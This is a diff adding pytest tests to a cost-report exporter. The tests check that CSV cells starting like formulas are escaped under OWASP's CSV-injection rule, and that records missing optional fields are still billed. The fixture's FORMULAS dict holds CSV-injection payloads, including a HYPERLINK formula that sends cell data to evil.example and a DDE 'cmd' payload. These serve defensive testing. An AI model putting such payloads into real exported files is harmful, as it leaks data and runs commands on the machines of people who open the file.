@@ -12,6 +12,7 @@ test. No rule is set aside. Its 1.0 rule set names five columns by their pre-1.0
 
 from __future__ import annotations
 
+import copy
 import csv
 import json
 import os
@@ -276,3 +277,128 @@ def test_a_focus_file_in_a_missing_folder_writes_nothing(dataset, tmp_path, caps
     assert code == 1
     assert err.count("\n") == 1 and "does not exist" in err
     assert not (out / "reports").exists()
+
+
+# -- off the path: text that attacks a spreadsheet, records without optional objects ---------
+
+
+#: Cells a spreadsheet would run (OWASP's CSV injection: =, +, -, @, a tab or CR first).
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/"&A1,"open")',
+    "k8s_namespace": "+cmd|' /C calc'!A0",
+    "deployment_type": "-2+3",
+    "image_version": "@SUM(1+1)",
+    "tenant_id": "\t=1+1",
+    "label": "\r=1+1",
+}
+
+
+@pytest.fixture(scope="module")
+def formulas(tmp_path_factory, fleet) -> Path:
+    """Three deployments whose text starts as formulas do, among plain ones."""
+    out = tmp_path_factory.mktemp("formulas")
+    records = copy.deepcopy(fleet.deployments[:12])
+    types = {r["id"]: fleet.deployment_types[r["id"]] for r in records}
+    for record in records[:3]:
+        record["name"] = FORMULAS["name"]
+        record["source_config"]["listener_config"] = {"k8s_namespace": FORMULAS["k8s_namespace"]}
+        record["tenant_id"] = FORMULAS["tenant_id"]
+        fm.resource_spec(record)["labels"] = {"team": FORMULAS["label"]}
+        types[record["id"]] = FORMULAS["deployment_type"]
+    fm.export_fleet(records, types, out, "2025-06-02")
+    return out
+
+
+def test_a_csv_cell_that_starts_as_a_formula_is_prefixed_and_parquet_keeps_it(
+    formulas, tmp_path, capsys
+) -> None:
+    for suffix in (".csv", ".parquet"):
+        code, _, err = run(
+            capsys, "report", "--out", str(formulas), "--focus", str(tmp_path / f"bill{suffix}")
+        )
+        assert code == 0, err
+    with (tmp_path / "bill.csv").open(newline="", encoding="utf-8") as source:
+        rows = list(csv.DictReader(source))
+    parquet = pq.read_table(tmp_path / "bill.parquet").to_pylist()
+    assert len(rows) == len(parquet)
+    columns = {
+        "ResourceName": "name",
+        "x_Namespace": "k8s_namespace",
+        "x_DeploymentType": "deployment_type",
+        "x_WorkspaceId": "tenant_id",
+        "SubAccountId": "tenant_id",
+    }
+    for column, field in columns.items():
+        attacked = [r[column] for r in rows if r[column].lstrip("'") == FORMULAS[field]]
+        assert attacked and set(attacked) == {"'" + FORMULAS[field]}, column
+        assert FORMULAS[field] in {r[column] for r in parquet}, column  # as it is
+    # no text cell of the CSV starts as a formula
+    text = [f.name for f in pq.read_schema(tmp_path / "bill.parquet") if f.type == pa.string()]
+    for row in rows:
+        for column in text:
+            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), column
+    # the plain rows are untouched, in both
+    plain = [r for r in rows if r["ResourceName"] != "'" + FORMULAS["name"]]
+    assert plain and all(not r["ResourceName"].startswith("'") for r in plain)
+    assert validate(tmp_path / "bill.csv", tmp_path / "work") == {}
+
+
+def test_escape_csv_cell_is_owasps_rule() -> None:
+    from analysis.escape import csv_cell
+
+    for lead in ("=", "+", "-", "@", "\t", "\r"):
+        assert csv_cell(f"{lead}1+1") == f"'{lead}1+1"
+    for plain in ("", "team", " =1", "'=1", "a=1", "1-2", '{"dims/type": "-1"}'):
+        assert csv_cell(plain) == plain
+
+
+@pytest.mark.parametrize("missing", ["listener_config_null", "no_listener_config", "no_tenant_id"])
+@pytest.mark.parametrize("suffix", [".parquet", ".csv"])
+def test_a_deployment_without_an_optional_object_is_billed(
+    fleet, tmp_path, capsys, missing, suffix
+) -> None:
+    records = copy.deepcopy(fleet.deployments[:6])
+    types = {r["id"]: fleet.deployment_types[r["id"]] for r in records}
+    odd = next(r for r in records if fm.status(r)["unpriced_reason"] is None)
+    if missing == "listener_config_null":
+        odd["source_config"]["listener_config"] = None
+    elif missing == "no_listener_config":
+        del odd["source_config"]["listener_config"]
+    else:
+        del odd["tenant_id"]
+    fm.export_fleet(records, types, tmp_path / "data", "2025-06-02")
+    target = tmp_path / f"bill{suffix}"
+    code, _, err = run(capsys, "report", "--out", str(tmp_path / "data"), "--focus", str(target))
+    assert code == 0 and err == "", err
+    table = pq.read_table(target) if suffix == ".parquet" else pacsv.read_csv(target)
+    mine = [r for r in table.to_pylist() if r["ResourceId"] == odd["id"]]
+    assert mine and all(r["EffectiveCost"] > 0 for r in mine)
+    column = "x_Namespace" if "listener" in missing else "x_WorkspaceId"
+    assert {r[column] for r in mine} in ({None}, {""})  # null (CSV: empty), never "nan"
+    tags = json.loads(mine[0]["Tags"])
+    assert ("dims/k8s_namespace" if "listener" in missing else "dims/workspace") not in tags
+    assert validate(target, tmp_path / "work") == {}
+
+
+def test_a_focus_file_that_is_a_folder_is_one_line_naming_it(dataset, tmp_path, capsys) -> None:
+    out = tmp_path / "data"
+    shutil.copytree(dataset, out)
+    target = tmp_path / "bill.csv"
+    target.mkdir()
+    code, printed, err = run(capsys, "report", "--out", str(out), "--focus", str(target))
+    assert code == 1 and printed == ""
+    assert err.count("\n") == 1 and str(target) in err and ".tmp" not in err
+    assert list(target.iterdir()) == [] and not list(tmp_path.glob(".bill.csv*"))
+    assert not (out / "reports").exists()
+
+
+def test_a_focus_write_that_fails_names_the_users_file(snap, tmp_path, monkeypatch) -> None:
+    def refuse(table: pa.Table, where: object, **kwargs: object) -> None:
+        raise PermissionError(13, "Permission denied", str(where))
+
+    monkeypatch.setattr(pq, "write_table", refuse)
+    target = tmp_path / "costs.parquet"
+    with pytest.raises(PermissionError) as raised:
+        reports.write_focus(reports.focus_table(snap), target)
+    assert raised.value.filename == str(target)
+    assert list(tmp_path.iterdir()) == []
